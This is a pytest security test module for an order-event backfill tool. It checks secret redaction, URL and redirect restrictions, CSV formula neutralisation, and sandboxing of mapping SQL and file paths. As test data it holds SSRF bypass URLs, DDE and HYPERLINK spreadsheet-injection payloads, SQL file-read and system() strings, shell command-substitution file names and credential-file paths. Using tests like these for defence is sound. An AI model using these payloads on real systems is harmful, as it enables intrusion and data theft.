"""Secrets, addresses, files and names that mean harm: nothing leaks, nothing is run, nothing else is read or written."""

from __future__ import annotations

import base64
import csv
import hashlib
import html
import io
import ipaddress
import json
import resource
import signal
import socket
import ssl
import subprocess
import sys
import threading
import traceback
import urllib.parse
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import anyio
import httpx
import pytest
import trustme
import yarl

from backfill.errors import BackfillError, ExportError, SettingsError
from backfill.mapping import Delivery, parse, read
from backfill.read import open_export
from backfill.records import Request
from backfill.retry import Answer, verdict
from backfill.send import Sender, Target, check_base_url
from backfill.settings import Flags, resolve
from backfill.transport import make_transport
from tests.delivery.support import events
from tests.end_to_end.support import SECRET, Shop, eventually, finish

# ------------------------------------------------------------------------------------------- 44: a secret stays one


def forms(secret: str) -> dict[str, bytes]:
    """What a secret may look like where it must not be: as it is, its beginning, and in the usual disguises."""
    raw = secret.encode()
    found = {
        "as it is": raw,
        "its beginning": raw[:8],
        "in capitals": secret.upper().encode(),
        "in a URL": urllib.parse.quote(secret, safe="").encode(),
        "escaped": "".join(f"\\u{ord(letter):04x}" for letter in secret).encode(),
        "hexadecimal": raw.hex().encode(),
        "hashed": hashlib.sha256(raw).hexdigest()[:16].encode(),
        "hashed, as bytes": hashlib.sha256(raw).digest()[:8],
        "in UTF-16": secret.encode("utf-16-le"),
    }
    for start in range(3):
        # Base64 of a text that has it somewhere: three ways to fall, less the letters at its ends.
        found[f"base64, {start}"] = base64.b64encode(b"x" * start + raw)[4:16]
    return found


def leaks(secret: str, *places: Path | bytes | str) -> list[str]:
    """Where the secret is: in texts, and in every file of folders."""
    found = []
    for place in places:
        if isinstance(place, Path):
            paths = [path for path in place.rglob("*") if path.is_file() and path.name != "secret"]
            texts = {str(path): path.name.encode() + b" " + path.read_bytes() for path in paths}
        else:
            texts = {repr(place)[:60]: place.encode() if isinstance(place, str) else place}
        for name, text in texts.items():
            found += [f"{form}: {name}" for form, looks in forms(secret).items() if looks in text]
    return found


@pytest.mark.parametrize("form", forms(SECRET))
def test_what_searches_for_the_secret_finds_it(form, tmp_path):
    hidden = b"before " + forms(SECRET)[form] + b" after"
    (tmp_path / "file").write_bytes(hidden)
    assert leaks(SECRET, tmp_path)
    assert leaks(SECRET, hidden)
    assert leaks(SECRET, base64.b64encode(b"Bearer " + SECRET.encode()))


Answering = Callable[[str], tuple[int, dict[str, str], bytes]]


@contextmanager
def server(answering: Answering, certificate: ssl.SSLContext | None = None) -> Iterator[tuple[str, list[str]]]:
    """A server that answers as told, and which Authorization it was sent: (its address, the headers)."""
    sent: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_POST(self) -> None:
            self.rfile.read(int(self.headers.get("Content-Length", 0)))
            sent.append(self.headers.get("Authorization", ""))
            status, headers, body = answering(sent[-1])
            self.send_response(status, f"No {sent[-1]}")
            for name, value in {"Content-Length": str(len(body)), **headers}.items():
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(body)

        do_GET = do_POST  # noqa: N815

        def log_message(self, *words: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as listening:
        if certificate is not None:
            listening.socket = certificate.wrap_socket(
                listening.socket, server_side=True, do_handshake_on_connect=False
            )
        listening.daemon_threads = True
        listening.handle_error = lambda *about: None  # type: ignore[method-assign]  # those who hang up are the point
        thread = threading.Thread(target=listening.serve_forever, kwargs={"poll_interval": 0.05})
        thread.start()
        try:
            yield f"{'https' if certificate else 'http'}://127.0.0.1:{listening.server_port}", sent
        finally:
            listening.shutdown()
            thread.join()


def echo(status: int, media: str = "application/problem+json") -> Answering:
    """An answer that has what it was sent in its status line, its headers and its body, as proxies' pages do."""

    def answering(authorization: str) -> tuple[int, dict[str, str], bytes]:
        headers = {
            "Content-Type": f"{media}; was={authorization}",
            "Location": f"https://example.com/{authorization.rsplit(maxsplit=1)[-1]}?key={authorization.rsplit(maxsplit=1)[-1]}",
            "WWW-Authenticate": f'Bearer error="{authorization}"',
            "X-Debug": authorization,
        }
        if media == "text/html":
            return status, headers, f"<title>No {authorization}</title><p>{authorization}".encode()
        words = {"title": f"no {authorization}", "detail": f"{{'Authorization': '{authorization}'}} is not known"}
        return status, headers, json.dumps(words).encode()

    return answering


@pytest.fixture
def leaky(lone_shop: Shop) -> Iterator[Shop]:
    """A shop whose commands keep everything below its folder, and which leaves the secret nowhere."""
    shop = lone_shop
    (shop.folder / "tmp").mkdir()
    shop.usual |= {"PYTHONDEVMODE": "1", "PYTHONASYNCIODEBUG": "1"}
    shop.env |= {**shop.usual, "TMPDIR": str(shop.folder / "tmp")}
    shop.orders(300)
    shop.mapping()
    yield shop
    assert leaks(SECRET, shop.folder) == []


def secret_file(shop: Shop) -> None:
    """The secret from a file, and no more from the environment."""
    del shop.env["REDO_API_SECRET"]
    shop.env["REDO_API_SECRET_FILE"] = str(shop.write("secret", SECRET + "\n"))


@pytest.mark.slow
@pytest.mark.parametrize(
    ("answer", "media", "status", "options"),
    [
        (401, "application/problem+json", 77, ["--json"]),
        (403, "text/html", 77, []),
        (404, "application/problem+json", 77, ["--quiet"]),
        (400, "application/problem+json", 3, ["--limit", "3"]),
        (302, "text/html", 78, []),
        (200, "text/plain", 78, ["--json"]),
    ],
)
def test_an_answer_that_echoes_it(leaky, answer, media, status, options):
    if media == "text/html":
        secret_file(leaky)
    with server(echo(answer, media)) as (address, sent):
        leaky.env["REDO_BASE_URL"] = address
        done = leaky.do("--debug", "run", "orders.yaml", "--concurrency", "2", *options, status=status)
    assert set(sent) == {f"Bearer {SECRET}"}
    assert leaks(SECRET, done.out, done.err) == []
    assert "[secret]" in done.said + "".join(path.read_text() for path in leaky.state.rglob("rejected.ndjson"))


AWKWARD = "sk+Live/AbCd=canary<5f&1e"


@pytest.mark.parametrize(
    ("status", "headers", "body"),
    [
        (401, {}, json.dumps({"detail": AWKWARD}).replace("/", "\\/")),
        (401, {}, f"no JSON: {AWKWARD}".replace("/", "\\/").replace("<", "\\u003c")),
        (401, {}, json.dumps({"detail": urllib.parse.quote(AWKWARD, safe="")})),
        (401, {"content-type": "text/html"}, f"<title>{html.escape(AWKWARD)}</title>"),
        (400, {}, " " * 7_990 + AWKWARD),
        (400, {}, "x" * 1_990 + AWKWARD),
        (400, {}, json.dumps({"title": "x" * 190 + AWKWARD})),
        (200, {"content-type": "x" * 45 + AWKWARD}, ""),
        (302, {"location": f"https://example.com/{'x' * 170}/{AWKWARD}"}, ""),
        (302, {"location": f"https://{AWKWARD.replace('/', '')}.example.com/"}, ""),
        (302, {"location": f"https://example.com/{urllib.parse.quote(AWKWARD, safe='')}"}, ""),
    ],
)
def test_words_of_an_answer_hold_no_part_of_it(status, headers, body):
    """Escaped as answers are, or cut where words are cut: the first letters of a secret are a secret too."""
    secret = AWKWARD.replace("/", "") if "https://sk" in headers.get("location", "") else AWKWARD
    answer = Answer(status, httpx.Headers(headers), body.encode())
    found = verdict(answer, events=1, bulk=False, wall_now=0.0, redact=secret)
    assert "sk" not in f"{found.seen} {found.problem}".lower()


@pytest.mark.slow
def test_what_is_asked_for_after_a_run_that_failed(leaky):
    with server(echo(401)) as (address, _):
        leaky.env["REDO_BASE_URL"] = address
        leaky.do("run", "orders.yaml", status=77)
    for words in (("status", "orders.yaml", "--json"), ("report", "orders.yaml"), ("preview", "orders.yaml", "--curl")):
        assert leaks(SECRET, leaky.do("--debug", *words).said) == []


def test_a_certificate_that_is_not_valid(leaky):
    certificate = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    trustme.CA().issue_cert("localhost").configure_cert(certificate)
    with server(echo(202), certificate) as (address, sent):
        leaky.env["REDO_BASE_URL"] = address
        done = leaky.do("--debug", "run", "orders.yaml", status=None)
    assert done.status in {77, 78}
    assert "certificate" in done.err
    assert leaks(SECRET, done.said) == []
    assert sent == []


@pytest.mark.slow
def test_nobody_there_and_a_proxy_with_a_password(leaky):
    """No such host, and a proxy whose password is a secret too; ended with SIGINT."""
    password = "hush/" + SECRET[::-1]
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        proxy = f"http://me:{urllib.parse.quote(password, safe='')}@127.0.0.1:{taken.getsockname()[1]}"
        for environment in ({"REDO_BASE_URL": "https://backfill.invalid"}, {"HTTPS_PROXY": proxy}):
            leaky.env |= environment
            process = leaky.start("--debug", "run", "orders.yaml", "--json")
            eventually(lambda: list(leaky.state.rglob("ledger.db*")), "a ledger", process)
            threading.Event().wait(1.0)
            process.send_signal(signal.SIGINT)
            done = finish(process, None)
            assert done.status in {130, 75}, done.said
            assert leaks(SECRET, done.said) == []
            assert leaks(password, done.said, leaky.folder) == []


def test_an_error_that_nobody_foresaw(leaky):
    code = (
        "import backfill.send.wire as wire\n"
        "async def breaks(self, *about):\n"
        "    raise RuntimeError('what is this')\n"
        "wire.Wire._exchange = breaks\n"
        "from backfill.cli import main; main()"
    )
    command = [sys.executable, "-c", code, "--debug", "run", "orders.yaml"]
    done = subprocess.run(command, cwd=leaky.folder, env=leaky.env, capture_output=True, check=False, timeout=60)
    assert done.returncode == 70
    assert b"in breaks" in done.stderr
    assert leaks(SECRET, done.stdout, done.stderr) == []


@pytest.mark.slow
@pytest.mark.parametrize("number", [signal.SIGKILL, signal.SIGABRT, signal.SIGSEGV, signal.SIGQUIT])
def test_a_process_that_dies(leaky, start, number):
    """No core is dumped, whatever the shell allows; nor is the secret in what the process shows to others."""
    box = start("latency=300")
    leaky.env |= {"REDO_BASE_URL": box.base_url, "PYTHONFAULTHANDLER": "1"}
    before = resource.getrlimit(resource.RLIMIT_CORE)
    resource.setrlimit(resource.RLIMIT_CORE, (before[1], before[1]))
    process = leaky.start("--debug", "run", "orders.yaml")
    resource.setrlimit(resource.RLIMIT_CORE, before)
    # By then the threads that read the export have ended: Python's own fault handler, which is to show all threads here,
    # reads freed memory when one ends under it (a plain script: 13 of 600).
    eventually(lambda: box.summary().requests > 40, "requests", process)
    if (shown := Path("/proc", str(process.pid))).exists():
        assert leaks(SECRET, (shown / "cmdline").read_bytes(), (shown / "comm").read_bytes()) == []
        assert "core file size        0 " in (shown / "limits").read_text()
    process.send_signal(number)
    out, err = process.communicate(timeout=30)
    assert process.returncode == -number, err
    assert leaks(SECRET, out, err) == []
    assert not list(leaky.folder.rglob("core*"))


def test_no_object_shows_it(tmp_path):
    """In a log, in a debugger, in a traceback with all that its frames hold, as error trackers send them."""
    environment = {"REDO_API_SECRET": SECRET, "REDO_STORE_ID": "s", "REDO_BASE_URL": "http://127.0.0.1:9"}
    settings = resolve(tmp_path / "m.yaml", Delivery(), Flags(), environment)
    target = Target(settings.base_url, settings.store, settings.secret)
    assert settings.secret == target.secret == SECRET
    told: list[str] = []

    class Breaks(httpx.AsyncBaseTransport):
        async def handle_async_request(self, request: httpx.Request) -> httpx.Response:
            assert request.headers["Authorization"] == f"Bearer {SECRET}"
            raise LookupError("unforeseen", request)

    async def main() -> None:
        sender = Sender(target, Breaks(), rate=100)
        told.extend(map(repr, (settings, target, sender, sender._wire, vars(sender).values())))
        async with sender:
            await sender.deliver(Request(events(1), 0, 1))

    try:
        anyio.run(main)
    except LookupError as error:
        frames = traceback.TracebackException.from_exception(error, capture_locals=True).format()
        told += [frame for frame in frames if 'File "' in frame and "test_security" not in frame]
    assert any("_exchange" in text for text in told)
    assert leaks(SECRET, *told) == []


@pytest.mark.parametrize("secret", [f"{SECRET} x", f"\x1b{SECRET}\n{SECRET}\u00e9"])
def test_a_secret_that_cannot_be_one(leaky, secret):
    del leaky.env["REDO_API_SECRET"]
    for name in ("REDO_API_SECRET", "REDO_API_SECRET_FILE"):
        leaky.env.pop("REDO_API_SECRET", None)
        leaky.env[name] = secret if name == "REDO_API_SECRET" else str(leaky.write("secret", secret))
        done = leaky.do("--debug", "run", "orders.yaml", status=78)
        assert "the secret holds a space" in done.err
        assert leaks(SECRET, done.said) == []


def test_a_secret_in_a_mapping_is_not_shown(leaky):
    """Written where it has no place: the message names the key, not what it holds."""
    (leaky.folder / "orders.yaml").unlink()
    for text in (f"delivery: {{secret: {SECRET}}}", f"delivery: {{store: s, api_key: {SECRET}}}\nsource: 1"):
        path = leaky.write("secret", text)
        done = leaky.do("--debug", "check", path.name, status=78)
        assert "REDO_API_SECRET" in done.err
        assert leaks(SECRET, done.said) == []


# ------------------------------------------------------------------------------- 45: only over TLS, only where it said

ODD = [
    "http://localhost.evil.example", "http://127.0.0.1.evil.example", "http://127.0.0.1@evil.example", "http://[::1]@evil.example",
    "http://[::1].evil.example/", "http://[::1]evil.example/", "http://[::ffff:8.8.8.8]", "http://[::]", "http://0.0.0.0",
    "http://0", "http://0x7f000001", "http://2130706433", "http://127.1", "http://0177.0.0.1", "http://127.0.0.1\\@evil.example/",
    "http://127.0.0.1\\.evil.example", "http://127.0.0.1%2eevil.example/", "http://127.0.0.1%00.evil.example/",
    "http://127.0.0.1\t.evil.example", "http://localhost\n.evil.example/", "http://localhost%2f.evil.example",
    "http://localhost%23.evil.example", "http://localhost.", "http://loc\u0430lhost", "http://\u24dbocalhost",
    "http://localhost\u3002evil.example", "http://\uff11\uff12\uff17.0.0.1", "http://127\u30020\u30020\u30021",
    "http://evil.example#@localhost", "http://localhost#@evil.example", "http://localhost?@evil.example",
    "http://evil.example:80@localhost", "http://@evil.example", "http:evil.example", "http:/evil.example", "http:///evil.example",
    "//evil.example", "HTTP://evil.example", "https:\\\\evil.example", "file:///etc/passwd", "javascript:alert(1)",
    "http://[::1%25lo]/", "http://[0:0:0:0:0:0:0:1]", "http://LOCALHOST", "http://127.255.255.255:1",
    "http://192.168.0.1", "http://169.254.169.254/", "http://printer.local", "http://ip6-localhost",
]  # fmt: skip


@pytest.mark.parametrize("url", ODD, ids=ascii)
def test_an_address_is_refused_or_is_this_machine(url):
    """Judged by the library that connects: what it takes for the host is where the secret goes."""
    try:
        taken = check_base_url(url)
    except SettingsError:
        return
    host = (yarl.URL(taken, encoded=True).host or "").partition("%")[0]
    assert host == "localhost" or ipaddress.ip_address(host).is_loopback


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_a_redirect_takes_the_secret_nowhere(status):
    with server(lambda _: (202, {}, b"")) as (elsewhere, stolen):

        def moved(_: str) -> tuple[int, dict[str, str], bytes]:
            return status, {"Location": elsewhere.replace("127.0.0.1", "localhost") + "/v2.2/stores/s/events"}, b""

        with server(moved) as (address, sent):

            async def main() -> None:
                async with Sender(Target(address, "s", SECRET), make_transport(), rate=100) as sender:
                    for i in range(2):
                        await sender.deliver(Request(events(2), i, i + 1))

            with pytest.raises(BackfillError, match=f"{status}.*to http://localhost"):
                anyio.run(main)
        assert sent
    assert stolen == []


ONE_ORDER = b"order_id,at,email,total,note\n1,2024-01-01,a@example.com,1,x\n"


def test_an_export_on_the_web_comes_from_where_the_mapping_says(lone_shop):
    """No redirect to another host, no password in a URL, nothing unencrypted but from this machine; and no query shown."""
    shop = lone_shop
    shop.mapping()
    with server(lambda _: (200, {}, ONE_ORDER)) as (elsewhere, fetched):
        there = elsewhere.replace("127.0.0.1", "localhost") + "/x.csv"
        with server(lambda _: (302, {"Location": there}, b"")) as (address, _):
            done = shop.do("check", "orders.yaml", "--files", f"{address}/x.csv", status=65)
            assert "redirects to http://localhost" in done.err
        assert fetched == []
        done = shop.do("check", "orders.yaml", "--files", f"{elsewhere}/x.csv?signature=hush-hush")
        assert f"{elsewhere}/x.csv" in done.out
        assert "hush-hush" not in done.said
        for url in (elsewhere.replace("//", "//me:hush-hush@") + "/x.csv", "http://backfill.invalid/x.csv"):
            assert "hush-hush" not in shop.do("check", "orders.yaml", "--files", url, status=78).said
        assert len(fetched) == 1


# ---------------------------------------------------------------------------------- 46: cells that would be formulas

SIGNS = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
FORMULAS = [
    *(f"{before}{sign}1+1" for sign in SIGNS for before in ("", " ", "'", "''", " '", '"', "\u00a0", "\n")),
    *(f"x{border}{sign}HYPERLINK(1)" for border in (";", "\t", "; ", ";'") for sign in "=+-@"),
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.com?leak="&A1,"x")', "@SUM(1)", "-2+3+cmd|' /C calc'!A0", "x\r\n=1", "'", "'x",
]  # fmt: skip


def cells_of(line: str, separator: str) -> list[str]:
    """The cells of a line in a spreadsheet whose separator is this one: a quote counts where it opens a cell."""
    return next(csv.reader([line.replace("\r", " ").replace("\n", " ")], delimiter=separator), [])


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_of_rejected_csv_is_a_formula(lone_shop, separator):
    """Whatever separates cells where the spreadsheet is: a semicolon in much of Europe, a tab where it is pasted."""
    shop = lone_shop
    names = ["order_id", "at", "email", "=name", "x;=name", *FORMULAS[:8]]
    rows = [[str(i), "never", "a@example.com", text, text, *FORMULAS[:8]] for i, text in enumerate(FORMULAS)]
    shop.write("=1+1.csv", text_of([names, *rows]))
    shop.mapping(
        files="=1+1.csv", event={"value": ..., "valueCurrency": ..., "data": {"A": "{=name}", "B": "{x;=name}"}}
    )
    shop.env["REDO_BASE_URL"] = "http://127.0.0.1:9"
    run = shop.deliver("--yes", status=3)
    text = (run.folder / "rejected.csv").read_bytes().decode()
    table = list(csv.reader(io.StringIO(text, newline="")))
    assert len(table) == 1 + len(rows)
    found = [cell for row in table for cell in cells_of(",".join(map(quoted, row)), separator)]
    assert [cell for cell in found if cell.startswith(tuple(SIGNS))] == []
    assert [cell for cell in found if cell.strip().startswith(tuple(SIGNS.strip()))] == []


def text_of(rows: list[list[str]]) -> str:
    return "\n".join(",".join('"' + cell.replace('"', '""') + '"' for cell in row) for row in rows) + "\n"


def quoted(cell: str) -> str:
    """A cell as rejected.csv has it."""
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator="").writerow([cell])
    return out.getvalue()


def test_the_import_of_rejected_csv_gives_the_original(shop, box):
    """What is mended goes out with the values that the export had."""
    values = [value for value in FORMULAS if value.strip()]
    names = ["order_id", "at", "email", "=name", "'=name", "x;=name"]
    rows = [[str(i), "never", "a@example.com", text, text[::-1], text * 2] for i, text in enumerate(values)]
    shop.write("orders.csv", text_of([names, *rows]))
    data = {"A": "{=name}", "B": "{'=name}", "C": "{x;=name}"}
    shop.mapping(event={"value": ..., "valueCurrency": ..., "data": data})
    run = shop.deliver("--yes", status=3)
    mended = (run.folder / "rejected.csv").read_bytes().decode().replace(",never,", ",2024-01-01,")
    shop.write("mended.csv", mended)
    shop.deliver("--files", "mended.csv", "--endpoint", "bulk")
    arrived = {event.event["uniqueId"]: event.event["data"] for event in box.events()}
    assert arrived == {f"order:{i}": {"A": text, "B": text[::-1], "C": text * 2} for i, text in enumerate(values)}


# ------------------------------------------------------------------------- 49: a mapping reads the export and no more


def test_a_mappings_sql_reads_no_file_and_writes_none(lone_shop):
    """Each way that SQL has to a file, in each place that takes SQL: refused with its place, and the files are as they were."""
    shop = lone_shop
    shop.orders(3)
    canary = shop.write("canary.csv", "a\ncanary-in-a-file\n")
    before = {path: path.read_bytes() for path in shop.folder.glob("*.csv")}
    for text in (
        f"(SELECT a FROM read_csv('{canary}'))",
        f"order_id IN (SELECT a FROM '{canary}')",
        f"read_csv('{canary}') IS NULL",
        f"order_id = '1' UNION SELECT * FROM '{canary}'",
        f"COPY orders TO '{shop.folder / 'written.csv'}'",
        f"order_id = '1'; COPY x TO '{shop.folder / 'written.csv'}'",
        f"system('touch {shop.folder / 'written.csv'}')",
    ):
        for place in ({"source": {"where": text}}, {"event": {"where": text}}, {"event": {"value": {"sql": text}}}):
            shop.mapping(**place)
            said = "\n".join(problem.render("orders.yaml") for problem in read(shop.folder / "orders.yaml").problems)
            assert said.startswith("orders.yaml:")
            assert "canary-in-a-file" not in said
    assert "canary-in-a-file" not in shop.do("check", "orders.yaml", status=78).said
    assert {path: path.read_bytes() for path in shop.folder.glob("*.csv")} == before


@pytest.mark.parametrize(
    "files",
    [
        "file:///etc/passwd", "data:text/csv,a,b", "|touch written", "$(touch written).csv", "`touch written`.csv", "/etc/passwd",
        "/proc/self/environ", "/dev/zero", "/dev/stdin", "~nobody-here/x.csv", "a\0/*.csv", "x" * 5_000 + ".csv",
        "x" * 300 + "*.csv", "https://[/x.csv", "s3://", "gs://", "https://x\ny/z.csv", "ftp://example.com/x.csv",
    ],
    ids=ascii,
)  # fmt: skip
def test_a_mappings_paths_are_files_of_the_export(tmp_path, files):
    """What is no export is refused in words; nothing is run for its name, and no pipe or device is waited for."""
    text = 'events:\n- eventName: e\n  uniqueId: "{a}"\n  eventTimestamp: "{a}"\n  customer: {id: "{a}"}\n'
    draft = parse(f"source: {{files: {json.dumps(files)}}}\n{text}", tmp_path / "m.yaml")
    if draft.mapping is not None:
        with pytest.raises((ExportError, SettingsError)):
            open_export(draft.mapping.source, tmp_path)
    assert list(tmp_path.iterdir()) == []


# ------------------------------------------------------------------------------------- 50: the sandbox stays at home


def listening(port: int) -> set[str]:
    """The addresses on which anybody of this machine listens at the port, as the kernel tells."""
    found = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in Path(table).read_text().splitlines()[1:] if Path(table).exists() else ():
            _, local, _, state, *_ = line.split()
            address, _, number = local.partition(":")
            if int(number, 16) == port and state == "0A":
                found.add(address)
    return found


@pytest.mark.parametrize("words", [["sandbox", "--port", "0"], ["run", "orders.yaml", "--sandbox", "--rate", "1"]])
def test_the_sandbox_listens_on_this_machine_only(lone_shop, words, require):
    require(Path("/proc/net/tcp").exists(), "only Linux tells who listens")
    shop = lone_shop
    shop.orders(300)
    shop.mapping()
    process = shop.start(*words)
    loopback = "0100007F"

    def own() -> set[int]:
        links = [link.readlink().name for link in Path("/proc", str(process.pid), "fd").iterdir() if link.is_symlink()]
        inodes = {name[8:-1] for name in links if name.startswith("socket:[")}
        lines = [line.split() for line in Path("/proc/net/tcp").read_text().splitlines()[1:]]
        lines += [line.split() for line in Path("/proc/net/tcp6").read_text().splitlines()[1:]]
        return {int(line[1].rpartition(":")[2], 16) for line in lines if line[9] in inodes and line[3] == "0A"}

    eventually(own, "a listening socket", process)
    (port,) = own()
    assert listening(port) == {loopback}
    with socket.socket() as other:
        # Another of the machine's own addresses: nobody answers there.
        assert other.connect_ex(("127.0.0.2", port)) != 0
    process.terminate()
    process.communicate(timeout=30)


@pytest.mark.parametrize(
    "host", ["evil.example", "127.0.0.1.evil.example", "localhost@evil.example", "[", "", "a b", "127.0.0.2"]
)
@pytest.mark.parametrize("path", ["/", "/_sandbox/events", "/_sandbox/summary"])
def test_a_page_of_elsewhere_reads_nothing_from_it(start, host, path):
    """A site can make a name of its own point here (DNS rebinding): by that name it is told nothing."""
    address = urllib.parse.urlsplit(start().page_url)
    request = f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"
    with socket.create_connection((address.hostname, address.port), timeout=30) as link:
        link.sendall(request.encode())
        answer = link.makefile("rb").read()
    assert answer.split()[1] in {b"400", b"403"}
    assert b"Sandbox</h1>" not in answer
